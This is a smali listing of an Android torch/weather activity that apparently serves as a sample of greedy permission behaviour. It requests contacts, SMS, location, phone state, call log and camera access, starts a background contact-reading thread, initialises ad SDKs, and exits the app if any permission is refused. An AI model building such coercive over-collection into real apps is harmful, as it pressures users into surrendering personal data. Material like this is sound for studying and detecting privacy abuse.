# Asks for five permissions of five groups at once at the start, and again each time it comes to the front.
.class public Lcom/example/greedy/MainActivity;
.super Landroid/app/Activity;

.method public constructor <init>()V
    .locals 0
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
    return-void
.end method

.method protected onCreate(Landroid/os/Bundle;)V
    .locals 4
    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
    const v0, R.layout.activity_main
    invoke-virtual {p0, v0}, Lcom/example/greedy/MainActivity;->setContentView(I)V
    const/4 v0, 0x5
    new-array v1, v0, [Ljava/lang/String;
    const/4 v0, 0x0
    const-string v2, "android.permission.READ_CONTACTS"
    aput-object v2, v1, v0
    const/4 v0, 0x1
    const-string v2, "android.permission.ACCESS_FINE_LOCATION"
    aput-object v2, v1, v0
    const/4 v0, 0x2
    const-string v2, "android.permission.READ_PHONE_STATE"
    aput-object v2, v1, v0
    const/4 v0, 0x3
    const-string v2, "android.permission.READ_SMS"
    aput-object v2, v1, v0
    const/4 v0, 0x4
    const-string v2, "android.permission.CAMERA"
    aput-object v2, v1, v0
    const/16 v0, 0x64
    invoke-static {p0, v1, v0}, Landroidx/core/app/ActivityCompat;->requestPermissions(Landroid/app/Activity;[Ljava/lang/String;I)V
    invoke-direct {p0}, Lcom/example/greedy/MainActivity;->showNotice()V
    const-string v0, "5000000"
    invoke-static {p0, v0}, Lcom/bytedance/sdk/openadsdk/TTAdSdk;->init(Landroid/content/Context;Ljava/lang/String;)V
    const-string v0, "1100000000"
    invoke-static {p0, v0}, Lcom/qq/e/comm/managers/GDTAdSdk;->init(Landroid/content/Context;Ljava/lang/String;)V
    new-instance v0, Ljava/lang/Thread;
    new-instance v1, Lcom/example/greedy/ContactSync;
    invoke-virtual {p0}, Lcom/example/greedy/MainActivity;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v2
    invoke-direct {v1, v2}, Lcom/example/greedy/ContactSync;-><init>(Landroid/content/ContentResolver;)V
    invoke-direct {v0, v1}, Ljava/lang/Thread;-><init>(Ljava/lang/Runnable;)V
    invoke-virtual {v0}, Ljava/lang/Thread;->start()V
    const v0, R.id.torch
    invoke-virtual {p0, v0}, Lcom/example/greedy/MainActivity;->findViewById(I)Landroid/view/View;
    move-result-object v0
    new-instance v1, Lcom/example/greedy/TorchClick;
    invoke-direct {v1}, Lcom/example/greedy/TorchClick;-><init>()V
    invoke-virtual {v0, v1}, Landroid/view/View;->setOnClickListener(Landroid/view/View$OnClickListener;)V
    const v0, R.id.weather
    invoke-virtual {p0, v0}, Lcom/example/greedy/MainActivity;->findViewById(I)Landroid/view/View;
    move-result-object v0
    new-instance v1, Lcom/example/greedy/WeatherClick;
    invoke-direct {v1}, Lcom/example/greedy/WeatherClick;-><init>()V
    invoke-virtual {v0, v1}, Landroid/view/View;->setOnClickListener(Landroid/view/View$OnClickListener;)V
    return-void
.end method

.method private showNotice()V
    .locals 3
    new-instance v0, Landroid/app/AlertDialog$Builder;
    invoke-direct {v0, p0}, Landroid/app/AlertDialog$Builder;-><init>(Landroid/content/Context;)V
    const v1, R.string.notice_title
    invoke-virtual {v0, v1}, Landroid/app/AlertDialog$Builder;->setTitle(I)Landroid/app/AlertDialog$Builder;
    const v1, R.string.notice_message
    invoke-virtual {v0, v1}, Landroid/app/AlertDialog$Builder;->setMessage(I)Landroid/app/AlertDialog$Builder;
    const v1, R.string.i_see
    const/4 v2, 0x0
    invoke-virtual {v0, v1, v2}, Landroid/app/AlertDialog$Builder;->setPositiveButton(ILandroid/content/DialogInterface$OnClickListener;)Landroid/app/AlertDialog$Builder;
    const/4 v1, 0x0
    invoke-virtual {v0, v1}, Landroid/app/AlertDialog$Builder;->setCancelable(Z)Landroid/app/AlertDialog$Builder;
    invoke-virtual {v0}, Landroid/app/AlertDialog$Builder;->show()Landroid/app/AlertDialog;
    return-void
.end method

.method protected onResume()V
    .locals 4
    invoke-super {p0}, Landroid/app/Activity;->onResume()V
    const/4 v0, 0x2
    new-array v1, v0, [Ljava/lang/String;
    const/4 v0, 0x0
    const-string v2, "android.permission.READ_PHONE_STATE"
    aput-object v2, v1, v0
    const/4 v0, 0x1
    const-string v2, "android.permission.READ_CALL_LOG"
    aput-object v2, v1, v0
    const/16 v0, 0x65
    invoke-virtual {p0, v1, v0}, Lcom/example/greedy/MainActivity;->requestPermissions([Ljava/lang/String;I)V
    return-void
.end method

.method public onRequestPermissionsResult(I[Ljava/lang/String;[I)V
    .locals 3
    invoke-super {p0, p1, p2, p3}, Landroid/app/Activity;->onRequestPermissionsResult(I[Ljava/lang/String;[I)V
    array-length v0, p3
    const/4 v1, 0x0
    :next
    if-ge v1, v0, :end
    aget v2, p3, v1
    if-nez v2, :denied
    add-int/lit8 v1, v1, 0x1
    goto :next
    :denied
    const v1, R.string.must_allow
    const/4 v2, 0x0
    invoke-static {p0, v1, v2}, Landroid/widget/Toast;->makeText(Landroid/content/Context;II)Landroid/widget/Toast;
    move-result-object v1
    invoke-virtual {v1}, Landroid/widget/Toast;->show()V
    invoke-virtual {p0}, Lcom/example/greedy/MainActivity;->finish()V
    const/4 v1, 0x0
    invoke-static {v1}, Ljava/lang/System;->exit(I)V
    :end
    return-void
.end method
